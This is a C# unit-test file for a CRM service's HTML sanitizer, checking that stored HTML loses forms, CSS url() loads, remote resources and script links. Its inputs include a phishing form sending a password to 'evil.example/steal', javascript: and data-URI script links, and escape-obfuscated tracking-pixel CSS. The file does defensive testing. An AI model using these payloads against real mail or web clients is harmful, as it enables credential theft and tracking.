using System.Text.Json;
using System.Text.RegularExpressions;
using AngleSharp.Dom;
using AngleSharp.Html.Parser;
using Crm.Service.Infrastructure.Html;

namespace Crm.Service.Tests.Domain;

/// <summary>
/// The one HTML policy for everything we store (customer HTML and agent replies): no forms, no url() in styles,
/// no remote loads (a remote image keeps its address in data-remote-src), links open in a new tab without referrer.
/// Assertions parse the output with AngleSharp, as a browser would, rather than matching strings alone.
/// </summary>
public sealed partial class HtmlPolicyTests
{
    private const string FormControls = "form, input, button, textarea, select, option, optgroup, datalist, output, keygen, fieldset, legend, label";

    private static readonly string Corpora = Path.Combine(AppContext.BaseDirectory, "Corpora", "hostile");

    private readonly HtmlSanitizerAdapter _sanitizer = new();

    private IDocument Sanitize(string html) => new HtmlParser().ParseDocument("<!doctype html><html><body>" + _sanitizer.Sanitize(html));

    [Fact]
    public void Strips_a_phishing_form_and_its_controls_but_keeps_its_text()
    {
        var output = Sanitize("<p>Your session expired.</p><form action=\"https://evil.example/steal\" method=\"post\"><p>Please confirm</p>"
            + "<input type=\"password\" name=\"pw\"><button type=\"submit\">Log in</button></form>");

        Assert.Empty(output.QuerySelectorAll(FormControls));
        Assert.Contains("Please confirm", output.Body!.TextContent, StringComparison.Ordinal);
        Assert.DoesNotContain("evil.example", output.Body.InnerHtml, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("<input type=\"text\" name=\"card\" value=\"4111\">")]
    [InlineData("<input type=\"image\" src=\"https://t.example/i.png\">")]
    [InlineData("<button formaction=\"https://t.example/go\">Pay now</button>")]
    [InlineData("<textarea name=\"notes\">Type your PIN</textarea>")]
    [InlineData("<select name=\"bank\"><optgroup label=\"EU\"><option>Bank A</option></optgroup><option>Bank B</option></select>")]
    [InlineData("<datalist id=\"d\"><option value=\"x\"></option></datalist>")]
    [InlineData("<output name=\"total\">42</output>")]
    [InlineData("<fieldset><legend>Login</legend><label for=\"u\">User</label></fieldset>")]
    [InlineData("<keygen name=\"k\">")]
    public void Strips_form_controls_from_inbound_html(string control)
    {
        var output = Sanitize("<div>before " + control + " after</div>");

        Assert.Empty(output.QuerySelectorAll(FormControls));
        Assert.Contains("before", output.Body!.TextContent, StringComparison.Ordinal);
        Assert.Contains("after", output.Body.TextContent, StringComparison.Ordinal);
    }

    [Fact]
    public void Strips_form_attributes_and_contenteditable_from_the_elements_that_stay()
    {
        var output = Sanitize("<div contenteditable=\"true\" formaction=\"https://t.example/\" action=\"https://t.example/\" placeholder=\"Password\">x</div>");

        var div = Assert.Single(output.QuerySelectorAll("div"));
        Assert.Empty(div.Attributes);
    }

    [Theory]
    [InlineData("background-image: url(https://t.example/p.gif)")]
    [InlineData("background: URL('https://t.example/p.gif') no-repeat")]
    [InlineData("background-image: Url( 'https://t.example/p.gif' )")]
    [InlineData(@"background-image: u\72l(https://t.example/p.gif)")]
    [InlineData(@"background-image: \75\72\6c(https://t.example/p.gif)")]
    [InlineData(@"background-image: \000075 rl(https://t.example/p.gif)")]
    [InlineData("list-style-image: url(//t.example/p.gif)")]
    [InlineData("cursor: url(https://t.example/c.cur), auto")]
    [InlineData("border-image: url(https://t.example/b.png) 30 round")]
    [InlineData("content: url(https://t.example/c.png)")]
    [InlineData("mask-image: url(https://t.example/m.svg)")]
    [InlineData("background-image: url(cid:inline-image)")]
    [InlineData("background-image: url(data:image/png;base64,iVBORw0KGgo=)")]
    public void Removes_style_declarations_with_url_and_keeps_the_others(string declaration)
    {
        var output = Sanitize($"<p style=\"color: red; {declaration}; font-weight: bold\">x</p>");

        var style = Assert.Single(output.QuerySelectorAll("p")).GetAttribute("style") ?? "";
        Assert.DoesNotContain("url(", DecodeCss(style), StringComparison.Ordinal);
        Assert.DoesNotContain("t.example", output.Body!.InnerHtml, StringComparison.Ordinal);
        Assert.Contains("color", style, StringComparison.Ordinal);
        Assert.Contains("bold", style, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("<style>@import url(https://t.example/a.css); p { color: red }</style><p>x</p>")]
    [InlineData("<style>@import 'https://t.example/a.css';</style><p>x</p>")]
    [InlineData("<style>p { background: url(https://t.example/b.png) }</style><p>x</p>")]
    [InlineData("<style>@font-face { font-family: f; src: url(https://t.example/f.woff) }</style><p>x</p>")]
    public void Drops_style_blocks_and_imports(string html)
    {
        var output = Sanitize(html);

        Assert.Empty(output.QuerySelectorAll("style"));
        Assert.DoesNotContain("t.example", output.Body!.InnerHtml, StringComparison.Ordinal);
    }

    [Theory]
    [InlineData("<img src=\"cid:logo\" srcset=\"https://t.example/a.png 1x, https://t.example/b.png 2x\" alt=\"logo\">")]
    [InlineData("<picture><source srcset=\"https://t.example/a.webp\"><img src=\"cid:logo\" alt=\"logo\"></picture>")]
    [InlineData("<video poster=\"https://t.example/p.png\" src=\"https://t.example/v.mp4\"></video>")]
    [InlineData("<audio src=\"https://t.example/a.mp3\"><source src=\"https://t.example/a.ogg\"><track src=\"https://t.example/t.vtt\"></audio>")]
    [InlineData("<table background=\"https://t.example/bg.png\"><tr><td background=\"//t.example/bg.png\">x</td></tr></table>")]
    [InlineData("<body background=\"https://t.example/bg.png\"><p>x</p></body>")]
    [InlineData("<img src=\"cid:logo\" lowsrc=\"https://t.example/l.png\" dynsrc=\"https://t.example/d.avi\">")]
    [InlineData("<svg><image href=\"https://t.example/s.png\"></image><image xlink:href=\"https://t.example/s2.png\"></image></svg>")]
    [InlineData("<meta http-equiv=\"refresh\" content=\"0;url=https://t.example/\"><p>x</p>")]
    [InlineData("<link rel=\"stylesheet\" href=\"https://t.example/s.css\"><p>x</p>")]
    [InlineData("<base href=\"https://t.example/\"><img src=\"logo.png\">")]
    [InlineData("<iframe src=\"https://t.example/f\"></iframe><object data=\"https://t.example/o\"></object><embed src=\"https://t.example/e\">")]
    [InlineData("<a href=\"https://ok.example/\" ping=\"https://t.example/ping\">x</a>")]
    [InlineData("<blockquote cite=\"https://t.example/q\">x</blockquote><q cite=\"//t.example/q\">y</q>")]
    public void Strips_every_remote_load_but_the_img_address(string html)
    {
        var output = Sanitize(html);

        Assert.DoesNotContain("t.example", output.Body!.InnerHtml, StringComparison.Ordinal);
        Assert.Empty(output.QuerySelectorAll("video, audio, source, track, svg, image, meta, link, base, iframe, object, embed, picture"));
    }

    [Theory]
    [InlineData("https://t.example/logo.png")]
    [InlineData("http://t.example/logo.png")]
    [InlineData("HTTPS://t.example/logo.png")]
    [InlineData("//t.example/logo.png")]
    [InlineData("/\\t.example/logo.png")]
    [InlineData("\\\\t.example/logo.png")]
    public void Moves_a_remote_img_src_to_data_remote_src(string address)
    {
        var output = Sanitize($"<p>Hi<img src=\"{address}\" alt=\"Logo\" width=\"120\"></p>");

        var img = Assert.Single(output.QuerySelectorAll("img"));
        Assert.False(img.HasAttribute("src"));
        Assert.Equal(address, img.GetAttribute("data-remote-src"));
        Assert.Equal("Logo", img.GetAttribute("alt"));
        Assert.Equal("120", img.GetAttribute("width"));
    }

    [Theory]
    [InlineData("<img data-remote-src=\"javascript:alert(1)\">")]
    [InlineData("<div data-remote-src=\"https://t.example/x.png\">x</div>")]
    public void Drops_a_forged_data_remote_src_that_is_no_remote_img_address(string html)
    {
        var output = Sanitize(html);

        Assert.Empty(output.QuerySelectorAll("[data-remote-src]"));
    }

    [Fact]
    public void Keeps_cid_images()
    {
        var output = Sanitize("<img src=\"cid:logo@mail.example\" alt=\"Logo\">");

        Assert.Equal("cid:logo@mail.example", Assert.Single(output.QuerySelectorAll("img")).GetAttribute("src"));
    }

    [Theory]
    [InlineData("https://shop.example/order/7")]
    [InlineData("http://shop.example/")]
    [InlineData("mailto:help@shop.example")]
    [InlineData("tel:+15550102030")]
    [InlineData("cid:part1")]
    public void Keeps_links_opening_in_a_new_tab_without_referrer(string href)
    {
        var output = Sanitize($"<a href=\"{href}\" target=\"_self\" rel=\"opener\">link</a>");

        var a = Assert.Single(output.QuerySelectorAll("a"));
        Assert.Equal(href, a.GetAttribute("href"));
        Assert.Equal("noopener noreferrer nofollow", a.GetAttribute("rel"));
        Assert.Equal("_blank", a.GetAttribute("target"));
    }

    [Fact]
    public void Drops_script_links()
    {
        var output = Sanitize("<a href=\"javascript:alert(1)\">x</a><a href=\"data:text/html,<script>alert(1)</script>\">y</a>");

        Assert.All(output.QuerySelectorAll("a"), a => Assert.False(a.HasAttribute("href")));
    }

    [Fact]
    public void Keeps_safe_formatting()
    {
        var html = "<h1>Order</h1><p style=\"color: red; font-weight: bold; text-align: center\">Hi <b>bold</b> <i>it</i> <u>u</u> <strong>s</strong> <em>e</em></p>"
            + "<ul><li>one</li></ul><ol><li>two</li></ol><table border=\"1\"><tr><th>h</th><td colspan=\"2\">c</td></tr></table>"
            + "<blockquote>quoted</blockquote><pre>code</pre><br><hr><span style=\"background-color: #ffeeaa\">mark</span>";

        var output = Sanitize(html);

        foreach (var tag in new[] { "h1", "p", "b", "i", "u", "strong", "em", "ul", "ol", "li", "table", "th", "td", "blockquote", "pre", "br", "hr", "span" })
            Assert.NotEmpty(output.QuerySelectorAll(tag));
        var style = output.QuerySelector("p")!.GetAttribute("style")!;
        Assert.Contains("color: rgba(255, 0, 0, 1)", style, StringComparison.Ordinal);
        Assert.Contains("text-align: center", style, StringComparison.Ordinal);
        Assert.Contains("background-color", output.QuerySelector("span")!.GetAttribute("style"), StringComparison.Ordinal);
        Assert.Equal("2", output.QuerySelector("td")!.GetAttribute("colspan"));
    }

    [Fact]
    public void Hostile_corpora_leave_no_form_control_style_url_script_or_remote_load()
    {
        var inputs = CorpusStrings().ToList();
        Assert.True(inputs.Count > 1000, $"only {inputs.Count} corpus strings found under {Corpora}");
        var failures = new List<string>();
        foreach (var (source, input) in inputs)
        {
            var output = Sanitize(input);
            foreach (var problem in PolicyViolations(output))
                failures.Add($"{source}: {problem} in {output.Body!.InnerHtml}");
        }
        Assert.True(failures.Count == 0, $"{failures.Count} violations, e.g.:\n" + string.Join("\n", failures.Take(20)));
    }

    /// <summary>Every string of every corpus file: JSON arrays of strings or of objects (each string value), text files line by line.</summary>
    private static IEnumerable<(string Source, string Text)> CorpusStrings()
    {
        foreach (var file in Directory.EnumerateFiles(Corpora, "*", SearchOption.AllDirectories).Order(StringComparer.Ordinal))
        {
            var name = Path.GetRelativePath(Corpora, file);
            if (file.EndsWith(".json", StringComparison.OrdinalIgnoreCase))
            {
                using var json = JsonDocument.Parse(File.ReadAllText(file));
                var index = 0;
                foreach (var text in StringsIn(json.RootElement))
                    yield return ($"{name}[{index++}]", text);
            }
            else if (file.EndsWith(".txt", StringComparison.OrdinalIgnoreCase))
            {
                var lines = File.ReadAllLines(file);
                for (var i = 0; i < lines.Length; i++)
                    yield return ($"{name}:{i + 1}", lines[i]);
            }
        }
    }

    private static IEnumerable<string> StringsIn(JsonElement element) => element.ValueKind switch
    {
        JsonValueKind.String => [element.GetString()!],
        JsonValueKind.Array => element.EnumerateArray().SelectMany(StringsIn),
        JsonValueKind.Object => element.EnumerateObject().SelectMany(p => StringsIn(p.Value)),
        _ => [],
    };

    private static IEnumerable<string> PolicyViolations(IDocument output)
    {
        foreach (var element in output.Body!.QuerySelectorAll("*"))
        {
            if (element.Matches(FormControls))
                yield return $"form control <{element.LocalName}>";
            if (element.LocalName is "script" or "style" or "iframe" or "object" or "embed" or "frame" or "frameset" or "svg" or "math" or "base" or "link" or "meta")
                yield return $"<{element.LocalName}>";
            foreach (var attribute in element.Attributes)
            {
                if (attribute.Name.StartsWith("on", StringComparison.OrdinalIgnoreCase))
                    yield return $"handler {attribute.Name} on <{element.LocalName}>";
                if (attribute.Name == "style" && CssUrl().IsMatch(DecodeCss(attribute.Value)))
                    yield return $"url() in style=\"{attribute.Value}\"";
                var text = attribute.Name is "alt" or "title";
                var allowed = (element.LocalName == "a" && attribute.Name == "href") || attribute.Name == "data-remote-src";
                if (!text && !allowed && IsRemote(attribute.Value))
                    yield return $"remote address in {attribute.Name}=\"{attribute.Value}\" on <{element.LocalName}>";
            }
        }
    }

    /// <summary>What a browser would fetch from elsewhere: http(s) or scheme-relative, after it drops tabs and
    /// newlines, trims control characters and spaces, and reads backslashes as slashes.</summary>
    private static bool IsRemote(string value)
    {
        var url = new string(value.Where(c => c is not ('\t' or '\n' or '\r')).ToArray()).Trim(Enumerable.Range(0, 33).Select(i => (char)i).ToArray()).Replace('\\', '/');
        return url.StartsWith("http:", StringComparison.OrdinalIgnoreCase) || url.StartsWith("https:", StringComparison.OrdinalIgnoreCase) || url.StartsWith("//", StringComparison.Ordinal);
    }

    /// <summary>CSS as the browser's tokenizer sees it: escapes decoded, comments gone, lower case.</summary>
    private static string DecodeCss(string css)
    {
        var decoded = CssEscape().Replace(css, m => m.Groups[1].Success ? CodePoint(int.Parse(m.Groups[1].Value, System.Globalization.NumberStyles.HexNumber)) : m.Groups[2].Value);
        return CssComment().Replace(decoded, "").ToLowerInvariant();
    }

    private static string CodePoint(int c) => char.ConvertFromUtf32(c is 0 or > 0x10FFFF or (>= 0xD800 and <= 0xDFFF) ? 0xFFFD : c);

    [GeneratedRegex(@"\\([0-9a-fA-F]{1,6})[ \t\r\n\f]?|\\([^\r\n\f0-9a-fA-F])")]
    private static partial Regex CssEscape();

    [GeneratedRegex(@"/\*.*?\*/", RegexOptions.Singleline)]
    private static partial Regex CssComment();

    [GeneratedRegex(@"(url|image-set|image|cross-fade|src)\s*\(")]
    private static partial Regex CssUrl();
}
